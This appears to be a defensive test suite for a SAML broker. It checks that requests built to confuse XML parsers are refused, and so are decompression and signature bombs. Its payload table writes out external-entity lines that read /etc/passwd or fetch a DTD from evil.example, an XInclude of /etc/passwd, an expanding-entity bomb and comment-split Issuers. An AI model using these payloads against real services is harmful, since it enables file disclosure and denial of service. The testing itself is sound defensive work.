import { deflateRawSync } from 'node:zlib'
import { expect } from 'chai'
import { samlBroker } from '../../support/saml-broker.js'
import { refusalOf } from '../../support/saml-errors.js'
import { authnRequest, envelopedSigned, postFields, redirectQuery } from '../../support/saml-requests.js'
import { SERVICE, testService } from '../../support/saml-service.js'

const XML = authnRequest()
/** Without KeyInfo, which is no part of what is signed and is not looked at. */
const SIGNED = envelopedSigned(XML).replace(/<ds:KeyInfo>.*<\/ds:KeyInfo>/s, '')
const broker = samlBroker()

/** A good request with this before it, or with this text in its Issuer. */
const before = (text: string) => text + XML
const issuer = (text: string) => authnRequest({ issuer: text })
const extensions = (inside: string) => authnRequest({ content: `<samlp:Extensions>${inside}</samlp:Extensions>` })

const TRICKS: Readonly<Record<string, string>> = {
  'a DOCTYPE': before('<!DOCTYPE x>'),
  'an external entity': before('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>').replace(SERVICE, '&e;'),
  'an external parameter entity': before('<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x.dtd">%e;]>'),
  'an entity that grows': before(
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]>',
  ).replace(SERVICE, '&c;'),
  'an attribute with a default': before('<!DOCTYPE x [<!ATTLIST AuthnRequest ForceAuthn CDATA "false">]>'),
  'a comment that cuts the Issuer in two': issuer(`${SERVICE}<!-- -->.evil.example`),
  'a comment around the Issuer': issuer(`<!-- -->${SERVICE}`),
  'a processing instruction in the Issuer': issuer(`${SERVICE}<?x y?>.evil.example`),
  'a processing instruction before the root': before('<?xml-stylesheet href="https://evil.example/x.xsl"?>'),
  'a CDATA section in the Issuer': issuer(`<![CDATA[${SERVICE}]]>`),
  'an element in the Issuer': issuer(`${SERVICE}<saml:Issuer>x</saml:Issuer>`),
  'a second Issuer': XML.replace('</samlp:AuthnRequest>', `<saml:Issuer>${SERVICE}</saml:Issuer></samlp:AuthnRequest>`),
  'a null character': issuer(`${SERVICE}\u0000.evil.example`),
  'an invisible character in the Issuer': issuer(`${SERVICE}\uFEFF`),
  'an undeclared prefix': XML.replace('xmlns:saml=', 'xmlns:saml2='),
  'a prefix that changes its meaning': XML.replace('<saml:Issuer>', '<saml:Issuer xmlns:saml="urn:x">'),
  'another namespace for the root': XML.replaceAll(
    'urn:oasis:names:tc:SAML:2.0:protocol',
    'urn:oasis:names:tc:SAML:1.0:protocol',
  ),
  'an attribute twice': XML.replace(' Version=', ' ID="_other" Version='),
  'two roots': `${XML}${XML}`,
  'text after the root': `${XML}x`,
  'elements nested without end': extensions(`${'<x:a xmlns:x="urn:x">'.repeat(40)}${'</x:a>'.repeat(40)}`),
  'more elements than any message has': extensions(
    '<x:a xmlns:x="urn:x"/>'
      .repeat(2000)
      .repeat(2)
      .slice(0, 22 * 3300),
  ),
  'a namespace that is multiplied by canonicalization': extensions(`<x:a xmlns:x="urn:${'x'.repeat(2000)}"/>`),
  'another encoding in its declaration': before('<?xml version="1.0" encoding="UTF-16"?>'),
  'UTF-7': before('<?xml version="1.0" encoding="UTF-7"?>'),
  'XML 1.1': before('<?xml version="1.1"?>'),
  'a reference to an XInclude': extensions(
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><!-- -->',
  ),
}

describe('a message that two parsers could read differently', () => {
  for (const [what, xml] of Object.entries(TRICKS)) {
    it(`is refused with ${what}, by redirect and by POST`, () => {
      const codes = ['saml-not-xml', 'saml-schema', 'saml-encoding']
      expect(refusalOf(() => broker.redirect(redirectQuery(xml)))).to.be.oneOf(codes)
      expect(refusalOf(() => broker.post(postFields(xml)))).to.be.oneOf(codes)
    })
  }

  it('is refused in UTF-16 without a mark, and in Latin-1 that it does not declare', () => {
    const latin = Buffer.from(authnRequest({ attributes: { ProviderName: 'Straße' } }), 'latin1')
    for (const bytes of [Buffer.from(XML, 'utf16le'), Buffer.from(XML, 'utf16le').swap16(), latin]) {
      const SAMLRequest = bytes.toString('base64')
      expect(refusalOf(() => broker.post({ SAMLRequest }))).to.equal('saml-encoding')
      const query = `SAMLRequest=${encodeURIComponent(deflateRawSync(bytes).toString('base64'))}`
      expect(refusalOf(() => broker.redirect(query))).to.equal('saml-encoding')
    }
  })

  it('loses its signature by any of it, wherever it is put in', () => {
    const demanding = samlBroker({ services: [testService({ metadata: { authnRequestsSigned: true } })] })
    for (const inserted of ['<!-- -->', '<?x y?>', '<![CDATA[]]>', 'x', '<x:a xmlns:x="urn:x"/>']) {
      for (const at of [...SIGNED.matchAll(/></g)].map(({ index }) => index + 1)) {
        const xml = SIGNED.slice(0, at) + inserted + SIGNED.slice(at)
        const code = refusalOf(() => demanding.post(postFields(xml)))
        expect(code, `${inserted} at ${at}`).to.be.oneOf(['saml-not-xml', 'saml-schema', 'saml-signature'])
      }
    }
  })
})

describe('a message that is a bomb', () => {
  it('is refused before it is inflated whole, and in little time', () => {
    const bomb = deflateRawSync(Buffer.alloc(64 * 1_048_576, 0x20)).toString('base64')
    const [startedAt, before] = [performance.now(), process.memoryUsage().rss]
    expect(refusalOf(() => broker.redirect(`SAMLRequest=${encodeURIComponent(bomb)}`))).to.equal('saml-encoding')
    expect(refusalOf(() => broker.post({ SAMLRequest: bomb }))).to.equal('saml-encoding')
    expect(performance.now() - startedAt).to.be.below(5_000)
    expect(process.memoryUsage().rss - before).to.be.below(48 * 1_048_576)
  })

  it('is refused as thousands of signatures, references or transforms', () => {
    const signature = /<ds:Signature .*<\/ds:Signature>/s.exec(SIGNED)?.[0] ?? ''
    const reference = /<ds:Reference .*<\/ds:Reference>/s.exec(SIGNED)?.[0] ?? ''
    const transform = /<ds:Transform [^>]*\/>/.exec(SIGNED)?.[0] ?? ''
    const bombs = [
      SIGNED.replace(signature, signature.repeat(40)),
      SIGNED.replace(reference, reference.repeat(100)),
      SIGNED.replace(transform, transform.repeat(800)),
    ]
    for (const xml of bombs) {
      const startedAt = performance.now()
      const code = refusalOf(() => broker.post(postFields(xml)))
      expect(code).to.be.oneOf(['saml-signature', 'saml-schema', 'saml-not-xml', 'saml-encoding'])
      expect(performance.now() - startedAt).to.be.below(5_000)
    }
  })
})
